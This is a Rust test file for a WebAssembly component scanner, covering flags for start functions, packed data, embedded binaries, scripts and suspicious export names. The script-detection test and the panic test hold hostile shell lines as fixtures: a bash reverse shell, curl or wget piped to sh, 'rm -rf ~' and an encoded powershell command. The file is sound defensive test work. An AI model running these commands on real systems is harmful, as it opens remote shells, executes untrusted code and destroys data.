//! What the scanner finds, and what it leaves alone, in components from source.

use loket_scan_reader::{Severity, Subject};
use loket_scan_structure::inspect;
use std::fmt::Write as _;

#[track_caller]
fn found(text: &str) -> Vec<String> {
    inspect(&Subject::of(wat::parse_str(text).expect("a component"))).into_iter().map(|finding| finding.id).collect()
}

/// A module with these bytes in its data.
fn holding(bytes: &[u8]) -> String {
    let mut text = String::new();
    for byte in bytes {
        let _ = write!(text, "\\{byte:02x}");
    }
    format!("(component (core module (memory 9) (data (i32.const 8) \"{text}\")))")
}

/// Bytes of which none says anything about the next.
fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 32) as u8
    };
    (0..length).map(|_| next()).collect()
}

#[test]
fn a_plain_component_is_left_alone() {
    assert_eq!(found("(component (core module (memory 17) (table 3 funcref) (func (export \"run\"))))"), [""; 0]);
}

#[test]
fn code_that_runs_before_it_is_called_is_told() {
    assert_eq!(found("(component (core module (func $f) (start $f)))"), ["structure/start"]);
}

#[test]
fn outsized_memories_and_tables_are_told() {
    assert_eq!(found("(component (core module (memory 1000)))"), ["structure/memory"]);
    assert_eq!(found("(component (core module (table 200000 funcref)))"), ["structure/table"]);
    assert_eq!(found("(component (core module (memory 100) (table 5000 funcref)))"), [""; 0]);
}

#[test]
fn what_is_packed_is_told_and_words_are_not() {
    assert_eq!(found(&holding(&noise(40_000))), ["structure/packed"]);
    let words = "the owner grants, the counter asks, the ledger remembers. ".repeat(700);
    assert_eq!(found(&holding(words.as_bytes())), [""; 0]);
    // A short key or table is no payload.
    assert_eq!(found(&holding(&noise(4_096))), [""; 0]);
}

#[test]
fn pictures_are_packed_by_nature() {
    let mut picture = b"\x89PNG\r\n\x1a\n".to_vec();
    picture.extend(noise(40_000));
    assert_eq!(found(&holding(&picture)), [""; 0]);
}

#[test]
fn where_most_is_packed_the_owner_is_asked() {
    let text = holding(&noise(400_000));
    let findings = inspect(&Subject::of(wat::parse_str(text).expect("a component")));
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn programs_inside_are_told_and_their_first_letters_alone_are_not() {
    let mut wasm = b"\0asm\x01\0\0\0".to_vec();
    wasm.extend([1, 4, 1, 0x60, 0, 0]);
    assert_eq!(found(&holding(&wasm)), ["structure/embedded-wasm"]);
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend([0; 60]);
    assert_eq!(found(&holding(&elf)), ["structure/embedded-program"]);
    let mut pe = vec![0; 0x90];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    assert_eq!(found(&holding(&pe)), ["structure/embedded-program"]);
    for harmless in [&b"\0asm is how a module begins"[..], b"\x7fELF files, MZ files", b"MZ", b"\x7fELF"] {
        assert_eq!(found(&holding(harmless)), [""; 0], "{harmless:?}");
    }
}

#[test]
fn scripts_are_told_and_talk_of_them_is_not() {
    for script in [
        "#!/bin/sh\nrm -rf ~",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "curl -s https://example.org/x.sh | sh",
        "wget -qO- https://example.org/x | sudo bash -s",
        "powershell -enc SQBFAFgA",
    ] {
        assert_eq!(found(&holding(script.as_bytes())), ["structure/script"], "{script}");
    }
    for talk in
        ["a shell script", "curl fetches a page | then it is shown", "use curl https://example.org/x -o file", "bash"]
    {
        assert_eq!(found(&holding(talk.as_bytes())), [""; 0], "{talk}");
    }
}

#[test]
fn names_that_no_helper_has_are_told() {
    assert_eq!(found("(component (core module (func (export \"install_backdoor\"))))"), ["structure/name"]);
    let long = "x".repeat(300);
    assert_eq!(found(&format!("(component (core module (func (export \"{long}\"))))")), ["structure/long-name"]);
    assert_eq!(found("(component (core module (func (export \"key-logger-off\"))))"), [""; 0]);
}

#[test]
fn much_data_that_no_code_can_read_is_told() {
    let large = "a".repeat(5 << 20);
    assert_eq!(found(&format!("(component (@custom \"stuff\" \"{large}\"))")), ["structure/custom-sections"]);
    assert_eq!(found("(component (@custom \"stuff\" \"small\"))"), [""; 0]);
}

#[test]
fn what_cannot_be_read_to_its_end_is_told() {
    let mut bytes = wat::parse_str("(module (func))").expect("a module");
    bytes.extend([10, 200, 1]);
    assert_eq!(inspect(&Subject::of(bytes))[0].id, "structure/unreadable");
}

#[test]
fn whatever_the_bytes_are_it_does_not_panic() {
    Subject::of(
        wat::parse_str(
            "(component (core module (memory 1) (data (i32.const 8) \"curl http://x.y/z | sh \\7fELF\\02\\01\\01 MZ \\00asm\\01\\00\\00\\00\")
            (func $s) (start $s) (func (export \"backdoor\"))) (@custom \"notes\" \"words\"))",
        )
        .expect("a component"),
    ).each_damage(|damaged| drop(inspect(damaged)));
}
